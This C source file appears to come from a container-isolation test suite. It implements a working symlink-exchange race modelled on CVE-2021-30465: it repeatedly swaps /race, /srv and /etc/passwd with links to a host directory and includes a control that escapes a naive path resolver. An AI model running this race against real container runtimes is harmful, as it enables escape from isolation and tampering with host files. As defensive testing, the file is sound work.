// A race for whoever resolves paths of this root from outside (CVE-2021-30465): names that are a directory or file
// of the slice at one moment, and a link to the host at the next.
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

struct pair { char one[256], other[256]; };

static bool exchange(const struct pair *pair)
{
    return syscall(SYS_renameat2, AT_FDCWD, pair->one, AT_FDCWD, pair->other, 2 /* RENAME_EXCHANGE */) == 0;
}

static volatile sig_atomic_t is_over;
static void end(int number) { (void)number, is_over = 1; }

// Until SIGTERM.
static void exchange_all(const struct pair *pairs, size_t count)
{
    while (!is_over)
        for (size_t i = 0; i < count; i++)
            exchange(&pairs[i]);
}

// In the root: /race, a directory; /srv, above where the suite has a mount; /etc/passwd. Each changes places with a
// link to the same in the argument, a directory of the host. What a former run has left is used again; SIGTERM,
// with which a restart begins, leaves the links in place for the next start.
int run_race(const char *directory)
{
    static struct pair pairs[] = {
        {"/race", "/race-link"}, {"/srv", "/srv-link"}, {"/etc/passwd", "/etc/passwd-link"},
    };
    char passwd[300];
    snprintf(passwd, sizeof passwd, "%s/passwd", directory);
    const char *const targets[] = {directory, directory, passwd};
    mkdir("/race", 0755);
    mkdir("/srv", 0755);
    for (size_t i = 0; i < 3; i++) {
        struct stat info;
        if (lstat(pairs[i].other, &info) < 0 && symlink(targets[i], pairs[i].other) < 0) {
            fprintf(stderr, "slice-probe: race: symlink(%s): %s\n", pairs[i].other, strerror(errno));
            return 1;
        }
        if (!exchange(&pairs[i])) {
            fprintf(stderr, "slice-probe: race: renameat2(%s): %s\n", pairs[i].one, strerror(errno));
            return 1;
        }
    }
    signal(SIGTERM, end);
    static const char ready[] = "{\"finished\":true}\n";
    if (write(1, ready, sizeof ready - 1) < 0)
        return 1;
    exchange_all(pairs, 3);
    for (size_t i = 0; i < 3; i++) {
        struct stat info;
        if (lstat(pairs[i].one, &info) == 0 && !S_ISLNK(info.st_mode))
            exchange(&pairs[i]);
    }
    return 0;
}

// The control: one name below `directory` changes places with a link to `directory`, and a resolver that takes
// paths as they are looks for `secret` behind it, which no directory of the slice has.
int run_careless(const char *directory)
{
    char root[256], found[300];
    struct pair pair;
    snprintf(root, sizeof root, "%s/careless", directory);
    snprintf(pair.one, sizeof pair.one, "%.200s/race", root);
    snprintf(pair.other, sizeof pair.other, "%.200s/link", root);
    snprintf(found, sizeof found, "%.250s/secret", pair.one);
    struct answer answer;
    if (mkdir(root, 0700) < 0 || mkdir(pair.one, 0700) < 0 || symlink(directory, pair.other) < 0) {
        answer = failed("making a root for the control");
    } else {
        pid_t racer = fork();
        if (racer == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            exchange_all(&pair, 1);
        }
        long tries = 0;
        bool led_out = false;
        for (double end = monotonic_seconds() + 5; !led_out && monotonic_seconds() < end; tries++)
            led_out = access(found, F_OK) == 0;
        kill(racer, SIGKILL);
        waitpid(racer, NULL, 0);
        char detail[64];
        snprintf(detail, sizeof detail, "after %ld tries", tries);
        answer = answer_of(led_out, detail, "access(%s) while it is exchanged", found);
    }
    probe_print("race.careless", "", &answer);
    // Either name is either thing.
    unlink(pair.one), rmdir(pair.one), unlink(pair.other), rmdir(pair.other), rmdir(root);
    return 0;
}
